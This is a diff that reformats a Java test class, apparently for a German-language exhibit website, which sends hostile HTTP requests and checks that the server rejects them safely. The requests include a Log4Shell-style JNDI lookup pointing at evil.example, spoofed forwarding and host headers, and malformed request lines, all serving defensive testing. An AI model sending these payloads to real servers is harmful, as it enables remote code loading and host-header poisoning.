@@ -51,8 +51,7 @@ class HostileRequestsTest {
 
     private void eachIsMeant(List<String> targets) {
         var found = new SoftAssertions();
-        targets.forEach(target -> isMeant(
-                wire.get(target), target.substring(0, Math.min(90, target.length())), found));
+        targets.forEach(target -> isMeant(wire.get(target), target.substring(0, Math.min(90, target.length())), found));
         found.assertAll();
     }
 
@@ -192,7 +191,8 @@ class HostileRequestsTest {
                 "X-HTTP-Method-Override: DELETE",
                 "Purpose: \u0001",
                 "User-Agent: ${jndi:ldap://evil.example/a} %n%s")) {
-            for (var target : List.of("/", "/search?q=lamp", "/oai?verb=Identify", "/favicon.ico", "/iiif/collection.json")) {
+            for (var target :
+                    List.of("/", "/search?q=lamp", "/oai?verb=Identify", "/favicon.ico", "/iiif/collection.json")) {
                 var answer = wire.get(target, header);
                 var what = target + " with " + header.substring(0, Math.min(60, header.length()));
                 // A transfer coding that nobody knows is 501 by the rules.
@@ -211,7 +211,9 @@ class HostileRequestsTest {
         sent.put("no host", "GET / HTTP/1.1\r\nConnection: close\r\n\r\n");
         sent.put("two hosts", "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n");
         sent.put("a host with a blank", "GET / HTTP/1.1\r\nHost: a b\r\nConnection: close\r\n\r\n");
-        sent.put("a target of another host", "GET http://evil.example/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");
+        sent.put(
+                "a target of another host",
+                "GET http://evil.example/ HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");
         sent.put("brackets", "GET /[]{}| HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");
         sent.put("a version to come", "GET / HTTP/9.1\r\nHost: a\r\nConnection: close\r\n\r\n");
         sent.put("a header without a name", "GET / HTTP/1.1\r\nHost: a\r\n: x\r\nConnection: close\r\n\r\n");
@@ -243,7 +245,9 @@ class HostileRequestsTest {
             found.assertThat(answer.header("Cache-Control")).as(what).contains("no-store");
             found.assertThat(answer.body()).as(what).contains("<html lang=\"de\"", "class=\"footer\"");
             var page = Jsoup.parse(answer.body());
-            found.assertThat(page.select("[href^=//], [href^=http], [action^=//]")).as(what).isEmpty();
+            found.assertThat(page.select("[href^=//], [href^=http], [action^=//]"))
+                    .as(what)
+                    .isEmpty();
             found.assertThat(page.expectFirst("h1").text()).as(what).doesNotContain("!", "title");
         });
         found.assertAll();
@@ -252,14 +256,20 @@ class HostileRequestsTest {
     @Test
     void theHostIsWhatTheRequestIsForAndNotWhatItClaims() {
         for (var header : List.of(
-                "X-Forwarded-Host: evil.example", "X-Host: evil.example", "Forwarded: host=evil.example", "X-Forwarded-Port: 6666")) {
-            for (var target : List.of("/robots.txt", "/exhibits/halvern-strait", "/feed", "/iiif/collection.json", "/exhibits/")) {
+                "X-Forwarded-Host: evil.example",
+                "X-Host: evil.example",
+                "Forwarded: host=evil.example",
+                "X-Forwarded-Port: 6666")) {
+            for (var target : List.of(
+                    "/robots.txt", "/exhibits/halvern-strait", "/feed", "/iiif/collection.json", "/exhibits/")) {
                 assertThat(wire.get(target, header))
                         .as(target + " with " + header)
-                        .satisfies(answer -> assertThat(answer.head() + answer.body()).doesNotContain("evil.example", ":6666"));
+                        .satisfies(answer ->
+                                assertThat(answer.head() + answer.body()).doesNotContain("evil.example", ":6666"));
             }
         }
-        assertThat(wire.get("/studio", "X-Forwarded-Host: evil.example").header("Location")).doesNotContain("evil.example");
+        assertThat(wire.get("/studio", "X-Forwarded-Host: evil.example").header("Location"))
+                .doesNotContain("evil.example");
     }
 
     @Test
@@ -271,7 +281,8 @@ class HostileRequestsTest {
                     .startsWith("max-age=31536000")
                     .doesNotContain("includeSubDomains");
         }
-        assertThat(wire.get("/studio/login", "X-Forwarded-Proto: https").header("Set-Cookie")).contains("Secure", "HttpOnly", "Path=/studio");
+        assertThat(wire.get("/studio/login", "X-Forwarded-Proto: https").header("Set-Cookie"))
+                .contains("Secure", "HttpOnly", "Path=/studio");
     }
 
     @Test
@@ -286,7 +297,8 @@ class HostileRequestsTest {
         assertThat(answer.header("Access-Control-Allow-Origin")).isEqualTo("*");
         assertThat(answer.body()).contains("class=\"footer\"", "That was a lot at once");
         assertThat(wire.get("/unapi", "X-Forwarded-For: 203.0.113.78").status()).isEqualTo(200);
-        assertThat(wire.get("/unapi", "X-Forwarded-For: 203.0.113.79, 203.0.113.77").status())
+        assertThat(wire.get("/unapi", "X-Forwarded-For: 203.0.113.79, 203.0.113.77")
+                        .status())
                 .as("what somebody says before the proxy adds where it comes from counts for nothing")
                 .isEqualTo(429);
     }
